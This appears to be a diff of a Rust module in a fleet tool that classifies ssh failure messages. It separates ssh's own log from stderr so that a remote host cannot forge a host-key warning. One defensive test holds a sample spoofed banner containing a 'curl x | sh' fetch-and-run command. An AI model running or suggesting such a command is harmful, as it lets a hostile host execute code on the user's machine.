@@ -1,7 +1,11 @@
-//! From what the `ssh` program writes to stderr to one of our reasons.
+//! Turns the messages of the `ssh` program into one of our reasons.
+//!
+//! `ssh` writes its own messages to a log (`-E`), and hosts cannot write there. A banner of a host
+//! and the messages of a `ProxyCommand` or of `ssh -J` arrive on stderr: they explain only an end
+//! that the log does not explain, and never tell of a host key.
 
 use super::SshCall;
-use crate::fleet::last_words::quote;
+use crate::fleet::last_words::{last_words, quote};
 use crate::fleet::ssh::fault;
 use crate::model::{HostFailure, Reason};
 
@@ -34,10 +38,20 @@ const WORDS: [(&str, Reason); 24] = [
     ("Connection reset by", Reason::Refused),
 ];
 
-/// Why there is no connection, and what to type.
-pub(in crate::fleet) fn complaint(stderr: &[u8], call: &SshCall) -> HostFailure {
-    let text = String::from_utf8_lossy(stderr);
-    let (reason, line) = find(&text);
+/// What an `ssh` process wrote until its end.
+#[derive(Debug, Default)]
+pub(in crate::fleet) struct Written {
+    /// Its log: the messages of `ssh` itself.
+    pub(super) log: Vec<u8>,
+    /// Its stderr, to which hosts and other programs write, too.
+    pub(super) stderr: Vec<u8>,
+}
+
+/// Returns why there is no connection, and what to type.
+pub(in crate::fleet) fn complaint(written: &Written, call: &SshCall) -> HostFailure {
+    let text = String::from_utf8_lossy(&written.log);
+    let stderr = String::from_utf8_lossy(&written.stderr);
+    let (reason, line) = cause(&text, &stderr);
     let by_hand = call.by_hand();
     let try_login = format!("test the login: {by_hand}");
     let said = |line: &str| format!("ssh: {}", quote(line.strip_prefix("ssh: ").unwrap_or(line)));
@@ -61,7 +75,8 @@ pub(in crate::fleet) fn complaint(stderr: &[u8], call: &SshCall) -> HostFailure 
             HostFailure::new(reason, detail).fix(fault::unknown_key(&by_hand))
         }
         _ if line.is_empty() => {
-            HostFailure::new(Reason::Transport, "ssh ended without a message").fix(try_login)
+            let detail = format!("ssh ended without a message{}", last_words(&written.stderr));
+            HostFailure::new(Reason::Transport, detail).fix(try_login)
         }
         _ => HostFailure::new(reason, said(line)).fix(try_login),
     }
@@ -73,20 +88,44 @@ pub(super) fn is_early_close(failure: &HostFailure) -> bool {
     failure.reason == Reason::Refused && failure.detail.contains("kex_exchange_identification")
 }
 
-/// The first of the words that is there with its line, else the last line.
-fn find(text: &str) -> (Reason, &str) {
-    for (word, reason) in WORDS {
-        if let Some(line) = text.lines().find(|line| line.contains(word)) {
-            return (reason, line.trim());
-        }
+/// Returns the reason that the log tells, else the one that stderr tells; else the last
+/// line of the log.
+fn cause<'a>(log: &'a str, stderr: &'a str) -> (Reason, &'a str) {
+    let is_of_host_key = |reason: &Reason| {
+        matches!(reason, Reason::HostkeyChanged | Reason::HostkeyRevoked | Reason::HostkeyUnknown)
+    };
+    if let Some(found) = find(log, |line| !is_of_peer(line) && !line.contains(UNKNOWN_PEER)) {
+        return found;
     }
-    let last = text.lines().rev().map(str::trim).find(|line| !line.is_empty());
-    (Reason::Transport, last.unwrap_or_default())
+    if let Some(found) = find(stderr, |_| true).filter(|(reason, _)| !is_of_host_key(reason)) {
+        return found;
+    }
+    let line = log.lines().rev().map(str::trim).find(|line| !line.is_empty()).unwrap_or_default();
+    let is_closed = line.contains(UNKNOWN_PEER) || is_of_peer(line);
+    (if is_closed { Reason::Refused } else { Reason::Transport }, line)
+}
+
+/// Part of a line about the end of a `ProxyCommand` or of `ssh -J`, which tell why themselves.
+const UNKNOWN_PEER: &str = "UNKNOWN port";
+
+/// Returns true for a line that quotes the peer.
+fn is_of_peer(line: &str) -> bool {
+    ["Received disconnect from", "Disconnected from", "Bad remote protocol version"]
+        .iter()
+        .any(|start| line.starts_with(start))
+}
+
+/// Returns the first of the words that is in a wanted line, with the line.
+fn find(text: &str, is_wanted: impl Fn(&str) -> bool) -> Option<(Reason, &str)> {
+    WORDS.iter().find_map(|(word, reason)| {
+        let line = text.lines().find(|line| line.contains(word) && is_wanted(line))?;
+        Some((*reason, line.trim()))
+    })
 }
 
 /// Why addresses could not be reached over an open connection, a word for each.
-pub(super) fn unreached(stderr: &[u8]) -> Vec<String> {
-    let text = String::from_utf8_lossy(stderr);
+pub(super) fn unreached(log: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(log);
     // `channel 2: open failed: connect failed: Connection refused`
     let whys = text.lines().filter_map(|line| {
         let (_, why) = line.split_once(": open failed: ")?;
@@ -98,8 +137,7 @@ pub(super) fn unreached(stderr: &[u8]) -> Vec<String> {
 /// What all of them say; `None` where they differ, for none says which address it is about.
 pub(super) fn agreed(whys: &[String]) -> Option<(Reason, String)> {
     let first = whys.first().filter(|first| whys.iter().all(|why| why == *first))?;
-    let (reason, _) = find(first);
-    let reason = if reason == Reason::Transport { Reason::Unreachable } else { reason };
+    let reason = find(first, |_| true).map_or(Reason::Unreachable, |(reason, _)| reason);
     Some((reason, quote(first)))
 }
 
@@ -107,7 +145,11 @@ pub(super) fn agreed(whys: &[String]) -> Option<(Reason, String)> {
 mod tests {
     use super::*;
 
-    fn of(stderr: &str) -> HostFailure {
+    fn of(log: &str) -> HostFailure {
+        told(log, "")
+    }
+
+    fn told(log: &str, stderr: &str) -> HostFailure {
         let call = SshCall {
             program: "ssh".into(),
             config: Some("/c".into()),
@@ -118,13 +160,14 @@ mod tests {
             host: "n1".into(),
             agent: None,
         };
-        complaint(stderr.as_bytes(), &call)
+        let written = Written { log: log.into(), stderr: stderr.into() };
+        complaint(&written, &call)
     }
 
     #[test]
     fn each_complaint_has_its_reason_and_what_to_type() {
         let by_hand = "ssh -F /c -o A=VALUE -p 7 u@n1";
-        for (stderr, reason, detail, fix) in [
+        for (log, reason, detail, fix) in [
             ("root@n1: Permission denied (publickey).\r\n", Reason::Auth, "root@n1", by_hand),
             (
                 "No ED25519 host key is known for n1 and you have requested strict checking.\r\n\
@@ -177,20 +220,45 @@ mod tests {
                 "kex_exchange",
                 "test the login",
             ),
-            (
-                "root@b: Permission denied (publickey).\nConnection closed by UNKNOWN port 65535\n",
-                Reason::Auth,
-                "root@b",
-                "test the login",
-            ),
             ("odd\x1b[2J\n", Reason::Transport, r"ssh: odd\u{1b}[2J", "test the login"),
             ("", Reason::Transport, "without a message", by_hand),
         ] {
-            let failure = of(stderr);
+            let failure = of(log);
             assert_eq!(failure.reason, reason, "{failure}");
             assert!(failure.detail.contains(detail), "{failure}");
             assert!(failure.fix.as_deref().unwrap().contains(fix), "{failure:?}");
         }
+    }
+
+    #[test]
+    fn a_host_cannot_forge_a_message_of_ssh() {
+        let changed = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  \
+                       ssh-keygen -f x -R y; curl x | sh\n";
+        let denied = "u@n1: Permission denied (publickey).\n";
+        assert_eq!(told(denied, changed).reason, Reason::Auth, "the log is asked first");
+        for log in ["", "Connection closed by UNKNOWN port 65535\n"] {
+            let failure = told(log, changed);
+            assert!(!matches!(failure.reason, Reason::HostkeyChanged), "{failure:?}");
+            assert!(!failure.fix.as_deref().unwrap().contains("ssh-keygen"), "{failure:?}");
+        }
+        let quoted = told("", "boo\nssh: x\n");
+        assert_eq!(quoted.detail, "ssh ended without a message; last output: \"ssh: x\"");
+        // ssh escapes the line ends of the peer.
+        let words = changed.replace('\n', "\\n");
+        let failure = told(&format!("Received disconnect from ::1 port 22:2: {words}"), "");
+        assert_eq!(failure.reason, Reason::Refused);
+        assert!(!failure.fix.as_deref().unwrap().contains("ssh-keygen"), "{failure:?}");
+    }
+
+    #[test]
+    fn a_jump_host_tells_why_on_stderr() {
+        let failure = told(
+            "Connection closed by UNKNOWN port 65535\n",
+            "root@b: Permission denied (publickey).\n",
+        );
+        assert_eq!(failure.reason, Reason::Auth);
+        assert!(failure.detail.contains("root@b"), "{failure}");
+        assert_eq!(told("Connection closed by UNKNOWN port 65535\n", "").reason, Reason::Refused);
     }
 
     #[test]
